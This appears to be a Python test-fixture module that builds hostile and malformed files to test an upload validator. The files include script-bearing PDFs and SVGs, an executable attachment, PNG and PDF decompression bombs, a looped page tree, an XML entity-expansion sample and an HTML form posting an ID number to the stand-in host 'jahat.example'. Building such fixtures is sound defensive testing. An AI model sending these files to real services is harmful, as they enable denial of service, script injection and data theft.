"""Files nobody should have to take: broken, hostile, too many, too large. Each is made here, from nothing."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from PIL import Image

SECRET = b"<script>alert('rahasia')</script>"


def image(form: str = "JPEG", size: tuple[int, int] = (640, 400), **options: object) -> bytes:
    target = BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(target, form, **options)
    return target.getvalue()


def pdf(pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **options: object) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    target = BytesIO()
    document.save(target, **options)  # type: ignore[arg-type]
    return target.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(SECRET.decode()))
    document.Root.OpenAction = document.make_indirect(action)


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["alat.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + SECRET, filename="alat.exe")


def with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=document.make_stream(b"<xdp/>"))


def scripted_pdf() -> bytes:
    return pdf(change=with_script)


def carrying_pdf() -> bytes:
    return pdf(change=with_attachment)


def form_pdf() -> bytes:
    return pdf(change=with_xfa)


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="pemilik", user="rahasia", R=6))


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, rows: bytes) -> bytes:
    """A PNG whose header promises `width` x `height` of one grey byte each; `rows` is what is packed inside."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = chunk(b"IHDR", header), chunk(b"IDAT", zlib.compress(rows, 9)), chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def bomb_png() -> bytes:
    """30,000 x 30,000 pixels in under a megabyte."""
    return png(30_000, 30_000, bytes(4_000_000))


def hollow_png() -> bytes:
    """Promises a picture and holds a few rows of it."""
    return png(3_000, 3_000, bytes(9_000))


def strip_png() -> bytes:
    """One pixel high and a hundred million wide."""
    return png(100_000_000, 1, b"")


def bomb_pdf() -> bytes:
    """A page whose content unpacks to 200 MB."""

    def swell(document: pikepdf.Pdf) -> None:
        packed = zlib.compress(bytes(200_000_000), 9)
        stream = pikepdf.Stream(document, packed)
        stream.stream_dict.Filter = pikepdf.Name.FlateDecode
        stream.write(packed, filter=pikepdf.Name.FlateDecode)
        document.pages[0].Contents = document.make_indirect(stream)

    return pdf(change=swell)


def looped_pdf() -> bytes:
    """The tree of pages is its own child."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    return body + b"trailer<</Root 1 0 R/Size 3>>\n%%EOF\n"


def gif() -> bytes:
    frames = [Image.new("P", (40, 40), colour) for colour in range(5)]
    target = BytesIO()
    frames[0].save(target, "GIF", save_all=True, append_images=frames[1:], duration=50, loop=0)
    return target.getvalue()


HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1" + bytes(200)
EXE = b"MZ\x90\x00\x03" + bytes(300) + b"This program cannot be run in DOS mode."
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
XML_BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "' + b"x" * 500 + b'"><!ENTITY c "&b;&b;&b;">]><svg>&c;</svg>'
DOCX = b"PK\x03\x04\x14\x00[Content_Types].xml" + bytes(200)
HTML = b"<!doctype html><title>KTP</title><form action=//jahat.example><input name=nik></form>" + SECRET
TEXT = b"NIK 9999014505900001 atas nama Siti"
